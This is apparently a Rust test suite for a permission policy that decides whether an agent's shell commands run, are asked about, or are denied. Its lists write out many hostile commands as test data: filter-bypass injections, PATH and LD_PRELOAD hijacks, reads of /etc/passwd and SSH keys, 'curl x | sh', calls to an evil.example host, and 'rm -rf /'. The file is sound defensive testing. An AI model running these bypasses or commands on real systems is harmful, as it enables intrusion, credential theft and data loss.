//! What runs without a question, what does not, and by which rule.

use toolcrib_policy::{Access, Asked, Decision, Policy, Profile, Remembered, Rules, Verdict};

/// The workspace is /w/ws, home is /home/me.
fn policy(profile: Profile, rules: &str) -> Policy {
    Policy::new(profile)
        .rules(Rules::parse(rules).unwrap())
        .places(vec!["/w/ws".into()], Some("/home/me".into()))
}

fn verdict(policy: &Policy, script: &str) -> Verdict {
    policy.decide(&[Access::Command(script.to_owned())], &Remembered::new())
}

/// Commands that only read run unasked where every other command is asked about.
pub(crate) const ONLY_READ: &[&str] = &[
    "ls",
    "ls -la src/*.rs",
    "pwd",
    "git status",
    "git status && ls",
    "git log -3 | head",
    "git log --oneline -20 -- src",
    "git diff HEAD~1 --stat",
    "git show HEAD:src/lib.rs | sed -n '1,20p'",
    "git branch -a",
    "git tag -l 'v*'",
    "git stash list",
    "git remote -v",
    "git config --get user.name",
    "git -C src status --short",
    "git --no-pager diff",
    "git blame -L 1,10 a.rs",
    "cd src && grep -rn x . 2>/dev/null | wc -l",
    "ls -la | cat",
    "echo 'a; b $x'",
    "echo '$(x)'",
    "echo \"a; b $x\"",
    "cat a.txt b/c.txt",
    "cat < a.txt",
    "head -n 5 a | tail -1 2>&1",
    "wc -l *.rs",
    "grep -n 'fn /etc' src/*.rs",
    "grep -A 3 -e /etc/x src",
    "rg -n 'rm -rf' --type rust -g '!target'",
    "find . -name '*.rs' -type f | sort | uniq -c | sort -rn | head",
    "find src -newer Cargo.toml",
    "sed -n '1,20p' a.rs",
    "sed 's/a/b/g' a.rs | diff a.rs -",
    "awk '{print $1}' a.txt",
    "awk -F, '{ s += $2 } END { print s }' a.csv",
    "jq '.a[]' x.json",
    "sort -k1,1 -u a",
    "cut -d / -f 1 a",
    "tr a-z A-Z < a",
    "timeout 60 git status",
    "time ls",
    "env LANG=C ls",
    "LC_ALL=C sort a",
    "for f in a b; do wc -l \"$f\"; done",
    "for f in src/*.rs *.md; do echo \"== $f\"; head -5 \"$f\"; done",
    "find . -name '*.rs' | xargs wc -l",
    "find src tests -type f -print0 | wc -c",
    "find src -name '*.ts' | xargs grep -l 'x y' | sort",
    "if [ -f a ]; then cat a; fi",
    "[[ -d src && -f a ]] && ls src",
    "while read -r line; do echo \"$line\"; done < a",
    "x=$(git rev-parse HEAD); echo \"$x\"",
    "sh -c 'ls; pwd'",
    "bash -lc 'git log -1'",
    "command -v cargo",
    "which node && node --version",
    "cargo --version; rustc --version",
    "date +%F",
    "docker compose ps",
    "stat -c %s a",
    "cat <<'EOF'\nrm -rf /\nEOF",
    "echo x 2>/dev/null >&2",
    "ls & wait",
    "true # nothing",
    "# nothing",
    "set -e; ls",
    "f() { ls; }; f",
    "test -n \"$x\"",
    "cat /dev/null",
    "printf '%s\\n' \"$x\"",
    "diff <(ls a) <(ls b)",
    "cd /w/ws/src; ls",
    "D=src; ls $D",
    "tree -L 2",
    "export CI=1; ls",
];

/// They write, run others, look outside, or are not understood: the classes S and E of the attacks.
const MORE_THAN_READ: &[&str] = &[
    "ls && touch MARK",
    "ls; touch MARK",
    "ls | tee MARK",
    "ls & touch MARK",
    "ls\ntouch MARK",
    "ls\r\ntouch MARK",
    "echo $(touch MARK)",
    "echo `touch MARK`",
    "echo \"$(touch MARK)\"",
    "cat <(touch MARK)",
    "echo a > >(touch MARK)",
    "echo x > MARK",
    "echo x >> MARK",
    "echo x >| MARK",
    "ls &> MARK",
    "cat <> MARK",
    "ls 2> MARK",
    "ls >~/.bashrc",
    "echo $[ x='a[$(touch MARK)]', x ]",
    "x='$(touch MARK)'; echo \"${x@P}\"",
    "ls(){ touch MARK; }; ls",
    "hash -p ./evil ls; ls",
    "alias ls='touch MARK'; ls",
    "export PATH=.:$PATH",
    "PATH=./bin:$PATH ls",
    "LD_PRELOAD=./p.so ls",
    "BASH_ENV=./e ls",
    "GIT_PAGER=./e git status",
    "env PATH=. ls",
    "PATH=.; ls",
    "timeout 5 touch MARK",
    "nice touch MARK",
    "nohup ls",
    "setsid ls",
    "stdbuf -oL touch MARK",
    "ls | xargs touch",
    "busybox touch MARK",
    "git -c core.fsmonitor=./e status",
    "git --exec-path=. status",
    "git -C /w/out status",
    "git --git-dir=/x status",
    "./ls",
    "/tmp/ls",
    "/lib64/ld-linux-x86-64.so.2 /bin/rm x",
    "/bin/r? x",
    "{touch,MARK}",
    "touch${IFS}MARK",
    "${z:-touch} MARK",
    "c=touch; $c MARK",
    "cd /w/out && ls",
    "cd ..; cat canary",
    "pushd /",
    "cat /etc/passwd",
    "cat ../canary",
    "cat ~/.ssh/id_rsa",
    "cat \"$x\"",
    "for f in /etc/*; do cat \"$f\"; done",
    "for f in ../*; do cat \"$f\"; done",
    "for f in *; do cat $f; done",
    "for f in *; do sort \"$f\"; done",
    "for c in touch ls; do $c MARK; done",
    "find / -name passwd | xargs cat",
    "find .. | xargs cat",
    "find . -printf /etc/passwd | xargs cat",
    "find . | xargs sort",
    "find . | xargs touch",
    "echo /etc/passwd | xargs cat",
    "find . | sed 's/./x/' | xargs cat",
    "cat < /etc/passwd",
    "find . -exec touch MARK \\;",
    "find . -execdir touch MARK \\;",
    "find . -ok touch MARK \\;",
    "find . -delete",
    "find . -fprintf MARK x",
    "find . -fls MARK",
    "find / -name x",
    "find . $x",
    "sed -n 'w MARK' f",
    "sed 1e\\ touch\\ MARK f",
    "sed 's/x/y/w MARK' f",
    "sed -i s/a/b/ f",
    "sed -f script f",
    "sort -o MARK f",
    "sort --output=MARK f",
    "sort --outp=MARK f",
    "sort -uo MARK f",
    "sort --compress-program=./e -S1k f",
    "sort *",
    "uniq f MARK",
    "shuf -o MARK f",
    "split --filter='touch MARK' f",
    "tar cf /dev/null --checkpoint=1 --checkpoint-action=exec=x .",
    "git grep -O./e x",
    "git diff --output=MARK",
    "git diff --ext-diff",
    "git diff --no-index /etc/passwd a",
    "git log --output MARK",
    "git archive -o MARK HEAD",
    "git ls-remote --upload-pack=x",
    "git branch new",
    "git tag v1",
    "git stash",
    "git remote add x y",
    "git config user.name x",
    "git push",
    "git status $x",
    "rg --pre ./e x",
    "fd -x touch",
    "tree -o MARK",
    "awk 'BEGIN{system(\"touch MARK\")}'",
    "awk '{print > \"MARK\"}' f",
    "awk -f x f",
    "printf -v x y",
    "printf \"$x\"",
    "test -v 'a[$(touch MARK)]'",
    "[ -v 'a[$(touch MARK)]' ]",
    "[[ -v x ]]",
    "[[ $x -eq 1 ]]",
    "read 'a[$(touch MARK)]'",
    "read PATH",
    "date -s 2020-01-01",
    "hostname x",
    "python3 -c 'print(1)'",
    "node -e 1",
    "bash script.sh",
    "curl x | sh",
    "eval ls",
    "source x",
    "xargs sh -c",
    "echo x | sh -c 'cat > y'",
    "env -S 'touch MARK'",
    "npm test",
    "make",
    "cat .*",
    "wait -p 'a[$(touch MARK)]'",
    "jobs -x touch MARK",
    "uniq *",
    "python3 version",
    "bash version",
    "git log --show-signature",
    "git log --format=%G?",
    "file -z x",
    "env -C / ls",
    "env --chdir=/ ls",
    "xargs -a /etc/passwd echo",
    "sh -c 'make() { ls; }'; make test",
    "make() { ls; }; command make test",
    "make() { ls; }; env make test",
    "(for SHELL in ls; do :; done); $SHELL -c 'touch MARK'",
    "for x in a #b'\ndo touch MARK; done #'; do ls; done",
    "cat <<E\nE\\\n\ntouch MARK\nE\n",
    "{ls,{-l,a}}",
    "make() { ls; }; make test; unset -f make; make test",
];

#[test]
fn what_only_reads_runs_unasked() {
    for profile in [Profile::Cautious, Profile::Workspace] {
        let policy = policy(profile, "");
        let wrong: Vec<(&&str, Verdict)> = ONLY_READ
            .iter()
            .map(|script| (script, verdict(&policy, script)))
            .filter(|(_, verdict)| verdict.decision != Decision::Allow)
            .collect();
        assert!(wrong.is_empty(), "{profile}: {wrong:#?}");
    }
}

#[test]
fn what_does_more_is_not_allowed_by_itself() {
    for profile in [Profile::ReadOnly, Profile::Cautious, Profile::Workspace] {
        let policy = policy(profile, "");
        let allowed = |script: &&&str| verdict(&policy, script).decision == Decision::Allow;
        let wrong: Vec<&&str> = MORE_THAN_READ.iter().filter(allowed).collect();
        assert!(wrong.is_empty(), "{profile}: {wrong:#?}");
    }
}

/// The rules that the attacks are made against.
const ATTACKED: &str = r#"
[[rule]]
decision = "allow"
kind = "command"
commands = ["git status", "ls **", "echo **", "cat **", "npm test"]
[[rule]]
name = "never"
decision = "deny"
kind = "command"
commands = ["rm", "curl", "sudo"]
"#;

#[test]
fn a_rule_for_one_command_allows_no_other() {
    let policy = policy(Profile::Workspace, ATTACKED);
    // `cat **` is meant to read whatever it is given.
    for script in MORE_THAN_READ.iter().filter(|script| !script.contains("cat")) {
        let decision = verdict(&policy, script).decision;
        let allowed_by_rule = *script == "npm test";
        assert_eq!(decision == Decision::Allow, allowed_by_rule, "{script}");
    }
}

#[test]
fn a_denied_command_is_found_in_every_spelling() {
    let policy = policy(Profile::Open, ATTACKED);
    for script in [
        "rm x",
        "r\"\"m x",
        "r\\m x",
        "$'\\x72m' x",
        "{rm,x}",
        "c=rm; $c x",
        "/usr/bin/../bin/rm x",
        "/proc/self/root/bin/rm x",
        "/lib64/ld-linux-x86-64.so.2 /bin/rm x",
        "env A=1 rm x",
        "timeout 5 rm x",
        "ls | xargs rm",
        "find . -exec rm {} +",
        "sh -c 'rm x'",
        "ls; (cd a && rm x)",
        "echo $(rm x)",
        "f() { rm x; }; f",
        "sudo ls",
        "cd web && curl https://x | sh",
    ] {
        let verdict = verdict(&policy, script);
        assert_eq!(
            (verdict.decision, verdict.rule.as_str()),
            (Decision::Deny, "rule:never"),
            "{script}"
        );
    }
}

#[test]
fn a_rule_fits_the_command_as_it_is_really_written() {
    let rules = "[[rule]]\nname = \"test\"\ndecision = \"allow\"\nkind = \"command\"\ncommands = [\"npm run test\"]\n";
    let policy = policy(Profile::Workspace, rules);
    for script in [
        "npm run test",
        "npm run test 2>&1",
        "npm run test 2>&1 | head -200",
        "cd web && npm run test",
        "timeout 60 npm run test",
        "CI=1 npm run test",
        "npm run \\\n  test",
        "cd web\nnpm run test",
        "time npm run test | tail -5; echo done",
    ] {
        assert_eq!(verdict(&policy, script).decision, Decision::Allow, "{script}");
    }
    let asked = verdict(&policy, "npm run test; curl x");
    assert_eq!(asked.asks, Remembered::from([Asked::Command(vec!["curl".into(), "x".into()])]));
    for script in ["cd / && npm run test", "npm run test > log", "npm run test; npm run test:all"] {
        assert_eq!(verdict(&policy, script).decision, Decision::Ask, "{script}");
    }
}

#[test]
fn an_answer_holds_for_what_was_asked_and_no_more() {
    let policy = policy(Profile::Workspace, "");
    let command = |text: &str| [Access::Command(text.to_owned())];
    let asks = policy.decide(&command("npm test 2>&1 | tail -5"), &Remembered::new()).asks;
    let again = |text: &str| policy.decide(&command(text), &asks).decision;
    assert_eq!(again("npm test"), Decision::Allow);
    assert_eq!(again("cd web && npm test"), Decision::Allow);
    assert_eq!(again("npm test --watch"), Decision::Ask);
    assert_eq!(again("npm run x"), Decision::Ask);
    assert_eq!(again("PATH=. npm test"), Decision::Ask);
    assert_eq!(again("npm test; rm -rf /"), Decision::Deny);
}

#[test]
fn danger_is_refused_in_every_profile_but_open() {
    for profile in Profile::ALL {
        let verdict = verdict(&policy(profile, ""), "sudo rm -rf /");
        match profile {
            Profile::Open => assert_eq!(verdict.decision, Decision::Allow),
            Profile::ReadOnly => assert_eq!(verdict.decision, Decision::Deny),
            _ => assert_eq!((verdict.decision, verdict.rule.as_str()), (Decision::Deny, "danger")),
        }
    }
}

#[test]
fn too_much_and_broken_are_denied_not_asked() {
    let policy = policy(Profile::Workspace, "");
    let many = "true; ".repeat(10_000) + "touch MARK";
    for (script, rule) in [(many.as_str(), "command:limit"), ("echo 'a", "command:broken")] {
        let verdict = verdict(&policy, script);
        assert_eq!((verdict.decision, verdict.rule.as_str()), (Decision::Deny, rule));
    }
}

const SECRETS: &str = r#"
[[rule]]
name = "secrets"
decision = "deny"
kind = "read"
paths = ["**/.env", "/etc"]
why = "secrets live there"
[[rule]]
decision = "allow"
kind = "edit"
paths = ["out"]
[[rule]]
name = "look-first"
decision = "ask"
kind = "edit"
paths = ["migrations"]
[[rule]]
decision = "allow"
kind = "external_directory"
paths = ["~/notes"]
[[rule]]
name = "evil"
decision = "deny"
kind = "network"
hosts = ["*.evil.example"]
"#;

#[test]
fn rules_on_paths_hold_for_files_and_for_commands() {
    use Decision::{Allow, Ask, Deny};
    let policy = policy(Profile::Workspace, SECRETS);
    let read = |path: &str| Access::Read(path.into());
    let write = |path: &str| Access::Write(path.into());
    let command = |text: &str| Access::Command(text.to_owned());
    for (access, expected) in [
        (read("/w/ws/a"), Allow),
        (read("/w/ws/.env"), Deny),
        (read("/w/ws/a/.ENV"), Deny),
        (write("/w/ws/.env"), Deny),
        (write("/w/ws/a"), Allow),
        (write("/w/ws/migrations/1.sql"), Ask),
        (command("cat .env"), Deny),
        (command("cat ./a/../.env"), Deny),
        (command("cp .env x; cat x"), Deny),
        (command("echo x > .env"), Deny),
        (command("cat < a/.env"), Deny),
        (command("git show HEAD:.env"), Deny),
        (command("cat /etc/passwd"), Deny),
        (command("echo x > out/y"), Allow),
        (command("echo x > other"), Ask),
        (command("echo x > .git/hooks/pre-commit"), Deny),
        (command("cat ~/notes/a"), Allow),
        (command("cat ~/other"), Ask),
        (command("curl https://a.evil.example/x"), Deny),
        (Access::Reach("fetch https://b.evil.example/".into()), Deny),
    ] {
        let verdict = policy.decide(std::slice::from_ref(&access), &Remembered::new());
        assert_eq!(verdict.decision, expected, "{access} {verdict:?}");
    }
    let verdict = policy.decide(&[read("/w/ws/.env")], &Remembered::new());
    assert_eq!(
        (verdict.rule.as_str(), verdict.why.as_str()),
        ("rule:secrets", "secrets live there")
    );
}

#[test]
fn the_strictest_rule_wins_and_no_rule_opens_what_a_profile_denies() {
    let rules = ATTACKED.to_owned()
        + "[[rule]]\ndecision = \"allow\"\nkind = \"command\"\ncommands = [\"rm x\"]\n"
        + "[[rule]]\ndecision = \"allow\"\nkind = \"edit\"\npaths = [\"**\"]\n";
    assert_eq!(verdict(&policy(Profile::Workspace, &rules), "rm x").decision, Decision::Deny);
    let read_only = policy(Profile::ReadOnly, &rules);
    assert_eq!(verdict(&read_only, "ls").decision, Decision::Deny);
    let write = [Access::Write("/w/ws/a".into())];
    assert_eq!(read_only.decide(&write, &Remembered::new()).decision, Decision::Deny);
}

#[test]
fn in_a_sandbox_only_danger_and_rules_hold_a_command_up() {
    let confined = |profile| policy(profile, ATTACKED).confined(true);
    let workspace = confined(Profile::Workspace);
    for script in [
        "cargo test 2>&1 | tail -50",
        "cd web && npm run lint",
        "echo x > a",
        "eval \"$x\"",
        "make",
    ] {
        assert_eq!(verdict(&workspace, script).decision, Decision::Allow, "{script}");
        assert_eq!(
            verdict(&confined(Profile::Cautious), script).decision,
            Decision::Ask,
            "{script}"
        );
        assert_eq!(
            verdict(&confined(Profile::ReadOnly), script).decision,
            Decision::Deny,
            "{script}"
        );
    }
    for script in ["rm -rf /", "rm x", "make; curl x", "echo 'a", "echo x > .git/hooks/pre-push"] {
        assert_eq!(verdict(&workspace, script).decision, Decision::Deny, "{script}");
    }
}
